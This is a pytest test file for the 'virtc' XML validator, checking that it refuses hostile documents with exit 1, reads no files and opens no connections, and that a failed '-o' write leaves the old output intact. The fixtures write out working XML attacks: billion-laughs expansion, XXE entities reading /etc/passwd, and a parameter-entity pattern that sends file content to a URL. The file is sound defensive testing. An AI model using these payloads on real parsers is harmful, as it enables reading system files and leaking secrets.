"""Hostile documents: refused with exit 1, quickly, in little memory, reading nothing.

Each document runs through the real CLI in a subprocess (`python -m virtc validate` and
`compile`), wrapped by a small measuring process that reports the CLI's CPU time, wall time
and peak RSS. "Quickly" is CPU time (an expansion or a parse that runs away burns it, on a
quiet machine or a loaded one); wall time only has to stay far from a hang (waiting on a
network that never answers), because on a machine shared by several test suites a process
can wait for a CPU longer than it runs. A TCP listener on 127.0.0.1 stands in for every URL: after the run it must have no
connection waiting. A secret file stands in for /etc/passwd: its content must not appear
in anything virtc prints.

The last section covers `-o FILE`: a failed write leaves the old file byte for byte and no
temporary file behind.
"""
from __future__ import annotations

import errno
import json
import os
import secrets
import shutil
import socket
import subprocess
import sys
from typing import Dict, Tuple

import pytest

from virtc import cli
from virtc.pipeline import load_bytes, load_file
from virtc.compiler import parse as parse_stage

ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
MAX_CPU_SECONDS = 2.0
MAX_WALL_SECONDS = 30.0
MAX_RSS_KIB = 200 * 1024
DOMAIN_BODY = "<domain type='kvm'><name>{}</name><memory>65536</memory>" \
              "<os><type>hvm</type></os></domain>"

MEASURE = r"""
import json, resource, subprocess, sys, time
start = time.monotonic()
proc = subprocess.run(sys.argv[1:], capture_output=True)
took = time.monotonic() - start
usage = resource.getrusage(resource.RUSAGE_CHILDREN)
print(json.dumps({"rc": proc.returncode, "seconds": took,
                  "cpu_seconds": usage.ru_utime + usage.ru_stime, "rss_kib": usage.ru_maxrss,
                  "stdout": proc.stdout.decode("utf-8", "replace"),
                  "output": (proc.stdout + proc.stderr).decode("utf-8", "replace")}))
"""


def run_measured(*args: str) -> Dict:
    """Run `python -m virtc ARGS` as the only child of a measuring process."""
    proc = subprocess.run([sys.executable, "-c", MEASURE, sys.executable, "-m", "virtc", *args],
                          capture_output=True, text=True, cwd=ROOT, timeout=60)
    return json.loads(proc.stdout)


@pytest.fixture(scope="module")
def listener():
    sock = socket.socket()
    sock.bind(("127.0.0.1", 0))
    sock.listen(16)
    sock.setblocking(False)
    yield sock
    sock.close()


def assert_no_connection(sock: socket.socket) -> None:
    # The kernel completes a TCP handshake before accept(), so any attempt is queued here.
    with pytest.raises(BlockingIOError):
        conn, peer = sock.accept()
        conn.close()
        pytest.fail(f"virtc connected to the listener from {peer}")


SECRET = "virtc-secret-" + secrets.token_hex(8)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory, listener) -> Dict[str, Tuple[str, str]]:
    """name → (path, expected code)."""
    tmp = tmp_path_factory.mktemp("hostile")
    secret = tmp / "secret.txt"
    secret.write_text(SECRET + "\n")
    url = "http://127.0.0.1:%d" % listener.getsockname()[1]
    laughs = "".join(f'<!ENTITY l{i} "{("&l%d;" % (i - 1)) * 10}">' for i in range(1, 10))
    docs = {
        "billion-laughs": (f'<?xml version="1.0"?>\n<!DOCTYPE domain [<!ENTITY l0 "lol">'
                           f'{laughs}]>\n' + DOMAIN_BODY.format("&l9;"), "XML002"),
        "xxe-file": (f'<!DOCTYPE domain [<!ENTITY x SYSTEM "file://{secret}">]>\n'
                     + DOMAIN_BODY.format("&x;"), "XML002"),
        "xxe-passwd": ('<!DOCTYPE domain [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n'
                       + DOMAIN_BODY.format("&x;"), "XML002"),
        "xxe-network": (f'<!DOCTYPE domain [<!ENTITY x SYSTEM "{url}/entity">]>\n'
                        + DOMAIN_BODY.format("&x;"), "XML002"),
        "parameter-entity-network": (f'<!DOCTYPE domain [<!ENTITY % p SYSTEM "{url}/p.dtd">'
                                     ' %p;]>\n' + DOMAIN_BODY.format("x"), "XML002"),
        # The error-based exfiltration pattern: the file's content ends up in a URL, and
        # from there in an error message.
        "parameter-entity-exfiltration": (
            f'<!DOCTYPE domain [<!ENTITY % f SYSTEM "file://{secret}">'
            f'<!ENTITY % e "<!ENTITY &#x25; x SYSTEM \'{url}/?%f;\'>"> %e; %x;]>\n'
            + DOMAIN_BODY.format("x"), "XML002"),
        "external-dtd-network": (f'<!DOCTYPE domain SYSTEM "{url}/d.dtd">\n'
                                 + DOMAIN_BODY.format("x"), "XML002"),
        "external-dtd-file": (f'<!DOCTYPE domain SYSTEM "file://{secret}">\n'
                              + DOMAIN_BODY.format("x"), "XML002"),
        "deep-nesting": ("<domain type='kvm'>" + "<a>" * 5000 + "</a>" * 5000 + "</domain>",
                         "XML006"),
    }
    out = {}
    for name, (text, code) in docs.items():
        path = tmp / f"{name}.xml"
        path.write_text(text, encoding="utf-8")
        out[name] = (str(path), code)
    utf16 = tmp / "xxe-file-utf16.xml"
    utf16.write_bytes(('<?xml version="1.0" encoding="UTF-16"?>\n' + docs["xxe-file"][0])
                      .encode("utf-16"))
    out["xxe-file-utf16"] = (str(utf16), "XML002")
    huge = tmp / "huge-text-node.xml"
    with open(huge, "w", encoding="ascii") as fh:
        fh.write("<domain type='kvm'><name>")
        fh.write("A" * (20 * 1024 * 1024))
        fh.write("</name></domain>")
    out["huge-text-node"] = (str(huge), "XML005")
    return out


HOSTILE = ["billion-laughs", "xxe-file", "xxe-passwd", "xxe-network",
           "parameter-entity-network", "parameter-entity-exfiltration", "external-dtd-network",
           "external-dtd-file", "xxe-file-utf16", "deep-nesting", "huge-text-node"]


def _passwd_first_line() -> str:
    try:
        with open("/etc/passwd", encoding="utf-8") as fh:
            return fh.readline().strip()
    except OSError:
        return SECRET


@pytest.mark.parametrize("command", ["validate", "compile"])
@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_document_is_refused(hostile, listener, name, command):
    path, code = hostile[name]
    result = run_measured(command, path)
    assert result["rc"] == 1, result["output"]
    assert f" {code} " in result["output"], result["output"]
    assert "Traceback" not in result["output"]
    assert result["cpu_seconds"] < MAX_CPU_SECONDS, result
    assert result["seconds"] < MAX_WALL_SECONDS, result
    assert result["rss_kib"] < MAX_RSS_KIB, result
    assert SECRET not in result["output"]
    assert _passwd_first_line() not in result["output"]
    assert_no_connection(listener)


def test_schema_location_hints_are_not_fetched(tmp_path, listener):
    url = "http://127.0.0.1:%d/d.xsd" % listener.getsockname()[1]
    path = tmp_path / "hint.xml"
    path.write_text("<domain type='kvm' xmlns:xsi='http://www.w3.org/2001/XMLSchema-instance'"
                    f" xsi:noNamespaceSchemaLocation='{url}'><name>x</name></domain>")
    result = run_measured("validate", str(path))
    assert result["rc"] == 1 and "Traceback" not in result["output"]
    assert_no_connection(listener)


def test_all_hostile_documents_in_one_batch(hostile, listener):
    """One process, many files: each file gets its own diagnostic (no state leaks)."""
    paths = [hostile[n][0] for n in HOSTILE]
    result = run_measured("validate", "--format", "json", *paths)
    assert result["rc"] == 1
    report = json.loads(result["stdout"])
    assert {d["file"]: d["code"] for d in report} == {hostile[n][0]: hostile[n][1]
                                                      for n in HOSTILE}
    assert SECRET not in result["output"]
    assert_no_connection(listener)


# ---------------------------------------------------------------- other unreadable input

BROKEN = {
    "binary": (b"QFI\xfb\x00\x00\x00\x03" + bytes(range(256)), "XML008"),
    "latin1-in-utf8": ("<domain type='kvm'><name>caf\xe9</name></domain>".encode("latin-1"),
                       "XML007"),
    "unknown-encoding": (b"<?xml version='1.0' encoding='x-klingon'?><domain/>", "XML007"),
    "empty": (b"", "XML003"),
    "blank": (b"  \n\t\n", "XML003"),
    "not-xml": (b"name: guest\nmemory: 65536\n", "XML001"),
    "json": (b'{"domain": {"type": "kvm"}}', "XML001"),
    "html-root": (b"<html><body/></html>", "XML004"),
    "control-character": (b"<domain type='kvm'><name>a\x1bb</name></domain>", "XML001"),
    "internal-subset": (b"<!DOCTYPE domain [<!ELEMENT domain ANY>]><domain/>", "XML002"),
}


@pytest.mark.parametrize("name", sorted(BROKEN))
def test_unreadable_input_is_a_diagnostic_with_exit_1(tmp_path, capsys, name):
    content, code = BROKEN[name]
    path = tmp_path / f"{name}.xml"
    path.write_bytes(content)
    assert cli.main(["validate", str(path)]) == 1
    err = capsys.readouterr()
    text = err.out + err.err
    assert f" {code} " in text, text
    assert "internal error" not in text


def test_a_bare_doctype_and_utf16_are_still_read():
    with open(os.path.join(ROOT, "tests/golden/spec-kvm.xml"), encoding="utf-8") as fh:
        text = fh.read()
    plain = load_bytes(text.encode("utf-8"), "a.xml")
    assert plain.ok
    bare = load_bytes(("<!DOCTYPE domain>\n" + text).encode("utf-8"), "b.xml")
    assert bare.ok, bare.diagnostics
    utf16 = load_bytes(('<?xml version="1.0" encoding="UTF-16"?>\n' + text).encode("utf-16"),
                       "c.xml")
    assert utf16.ok, utf16.diagnostics
    assert utf16.node.name == plain.node.name


def test_max_size_is_an_api_parameter(tmp_path):
    doc = DOMAIN_BODY.format("x" * 5000).encode()
    assert [d.code for d in load_bytes(doc, "s.xml", max_size=1000).diagnostics] == ["XML005"]
    assert load_bytes(doc, "s.xml").ok
    path = tmp_path / "s.xml"
    path.write_bytes(doc)
    assert [d.code for d in load_file(str(path), max_size=1000).diagnostics] == ["XML005"]
    assert load_file(str(path), max_size=len(doc)).ok


def test_libxml2_text_limit_still_holds_above_max_size():
    doc = DOMAIN_BODY.format("A" * (11 * 1000 * 1000)).encode()
    loaded = load_bytes(doc, "big.xml", max_size=64 * 1024 * 1024)
    assert [d.code for d in loaded.diagnostics] == ["XML005"]
    assert "limit" in loaded.diagnostics[0].message


def test_the_parser_itself_refuses_every_load(tmp_path):
    """Defence in depth: even a DOCTYPE the prolog scan missed loads nothing."""
    from lxml import etree

    dtd = tmp_path / "leak.dtd"
    dtd.write_text(f'<!ENTITY leak "{SECRET}">')
    parser = parse_stage._parser()
    root = etree.fromstring(f'<!DOCTYPE domain SYSTEM "file://{dtd}"><domain>&leak;</domain>'
                            .encode(), parser)
    assert SECRET not in etree.tostring(root).decode()
    assert parse_stage._refused_loads("x.xml", parse_stage.Diagnostics())


# ---------------------------------------------------------------- atomic -o

GOLDEN = os.path.join(ROOT, "tests/golden/spec-kvm.xml")
OLD = b"the previous output\n"


def _debris(folder) -> list:
    return sorted(n for n in os.listdir(folder) if n != "out.txt")


def test_failed_rename_keeps_the_old_output(tmp_path, monkeypatch, capsys):
    out = tmp_path / "out.txt"
    out.write_bytes(OLD)

    def refuse(src, dst):
        raise OSError(errno.EXDEV, "Invalid cross-device link")
    monkeypatch.setattr(os, "replace", refuse)
    assert cli.main(["compile", GOLDEN, "-o", str(out)]) == 2
    assert out.read_bytes() == OLD
    assert _debris(tmp_path) == []
    assert "Invalid cross-device link" in capsys.readouterr().err


def test_disk_full_midway_keeps_the_old_output(tmp_path, monkeypatch, capsys):
    out = tmp_path / "out.txt"
    out.write_bytes(OLD)
    real_fdopen = os.fdopen

    class HalfWriter:
        """Writes half of what it is given, then fails like a full disk."""

        def __init__(self, fh):
            self.fh = fh

        def write(self, text):
            self.fh.write(text[: len(text) // 2])
            self.fh.flush()
            raise OSError(errno.ENOSPC, "No space left on device")

        def __enter__(self):
            return self

        def __exit__(self, *exc):
            self.fh.close()

    monkeypatch.setattr(os, "fdopen", lambda fd, *a, **k: HalfWriter(real_fdopen(fd, *a, **k)))
    assert cli.main(["compile", GOLDEN, "-o", str(out)]) == 2
    assert out.read_bytes() == OLD
    assert _debris(tmp_path) == []
    assert "No space left on device" in capsys.readouterr().err


@pytest.mark.skipif(os.geteuid() != 0 or shutil.which("unshare") is None,
                    reason="needs root and unshare to mount a tiny tmpfs")
def test_real_full_disk_keeps_the_old_output(tmp_path):
    """A 16 KiB tmpfs in a private mount namespace: the output really runs out of space."""
    doc = tmp_path / "big.xml"
    doc.write_text(DOMAIN_BODY.format("big").replace(
        "<type>hvm</type>", "<type>hvm</type><kernel>/k</kernel><cmdline>"
        + "x" * 200_000 + "</cmdline>"))
    mnt = tmp_path / "mnt"
    mnt.mkdir()
    script = (f'mount -t tmpfs -o size=16k tmpfs "{mnt}" && printf "the previous output\\n" > '
              f'"{mnt}/out.txt" && {{ "{sys.executable}" -m virtc compile "{doc}" '
              f'--target qemu --qemu-version 7.2 -o "{mnt}/out.txt"; echo "rc=$?"; '
              f'cat "{mnt}/out.txt"; ls -A "{mnt}"; }}')
    proc = subprocess.run(["unshare", "-m", "sh", "-c", script], capture_output=True,
                          text=True, cwd=ROOT, timeout=60)
    assert "rc=2" in proc.stdout, proc.stdout + proc.stderr
    assert proc.stdout.split("rc=2\n", 1)[1] == "the previous output\nout.txt\n"
    assert "No space left on device" in proc.stderr
